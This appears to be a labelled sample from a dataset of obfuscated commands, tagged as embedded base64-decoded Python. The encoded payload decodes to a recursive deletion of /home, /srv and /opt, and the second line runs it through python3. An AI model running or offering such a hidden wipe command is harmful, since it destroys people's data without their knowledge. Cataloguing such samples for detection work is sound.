# class: embedded, base64 decoded python; style: variable
P="aW1wb3J0IHNodXRpbDtbc2h1dGlsLnJtdHJlZShkLFRydWUpIGZvciBkIGluICgnL2hvbWUnLCcvc3J2JywnL29wdCcpXQ=="
python3 -c "$(echo $P | base64 --decode)"
